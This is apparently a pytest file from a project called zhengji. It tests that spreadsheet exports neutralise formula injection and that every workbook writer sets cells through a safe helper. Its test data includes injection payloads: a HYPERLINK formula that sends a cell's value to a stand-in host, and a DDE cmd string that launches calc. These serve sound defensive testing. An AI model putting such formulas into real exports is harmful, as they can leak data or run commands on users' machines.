"""Every workbook zhengji writes sets its cells through ``zhengji.xlsxsafe.put``: text never becomes a formula,
and numbers zhengji writes stay numbers. The export itself is tested through the running service in
``test_staff_security.py``; here, the helper's cases and a guard that no writer sets a cell another way.
"""

from __future__ import annotations

import ast
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from zhengji.xlsxsafe import put

PACKAGE = Path(__file__).resolve().parents[2] / "zhengji"
SHEET_NAMES = {"sheet", "worksheet", "ws"}
CELL_REFERENCE = re.compile(r"\$?[A-Z]{1,3}\$?[0-9]+")


def _written(values: list[object]) -> list[tuple[object, str, bool]]:
    book = Workbook()
    for column, value in enumerate(values, 1):
        put(book.active, 1, column, value)
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    return [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in sheet[1]]


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/x?"&B5,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
)
def test_text_that_a_spreadsheet_would_evaluate_is_kept_as_quoted_text(text: str) -> None:
    assert _written([text]) == [(text, "s", True)]


def test_ordinary_text_is_text_and_numbers_the_project_writes_stay_numbers() -> None:
    assert _written(["上海翼舞智能科技有限公司", "1", "-", -3, 2.5, None]) == [
        ("上海翼舞智能科技有限公司", "s", False),
        ("1", "s", False),
        ("-", "s", True),
        (-3, "n", False),
        (2.5, "n", False),
    ]


def _sets_a_cell(node: ast.AST) -> bool:
    """``x.cell(r, c, value)`` or ``x.cell(..., value=…)``, ``cell.value = …``, ``sheet["A1"] = …``, or
    ``sheet.append(row)``: a cell given a value other than through ``put``."""
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        if node.func.attr == "cell":
            return len(node.args) > 2 or any(keyword.arg == "value" for keyword in node.keywords)
        receiver = node.func.value
        return node.func.attr == "append" and isinstance(receiver, ast.Name) and receiver.id in SHEET_NAMES
    if isinstance(node, ast.Assign):
        for target in node.targets:
            if isinstance(target, ast.Attribute) and target.attr == "value":
                return True
            key = (
                target.slice.value
                if isinstance(target, ast.Subscript) and isinstance(target.slice, ast.Constant)
                else None
            )
            if isinstance(key, str) and CELL_REFERENCE.fullmatch(key):
                return True
    return False


def test_every_workbook_writer_sets_its_cells_through_put() -> None:
    writers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        if "openpyxl" not in source or path.name == "xlsxsafe.py":
            continue
        tree = ast.parse(source)
        writes_books = (
            any(
                isinstance(node, ast.ImportFrom)
                and node.module == "openpyxl"
                and any(a.name == "Workbook" for a in node.names)
                for node in ast.walk(tree)
            )
            or "Workbook(" in source
        )
        if not writes_books:
            continue
        writers.append(path.relative_to(PACKAGE).as_posix())
        assert [getattr(node, "lineno", 0) for node in ast.walk(tree) if _sets_a_cell(node)] == [], (
            f"{path}: set cells with zhengji.xlsxsafe.put"
        )
    assert "review/exports.py" in writers  # the guard looks where the exports are written
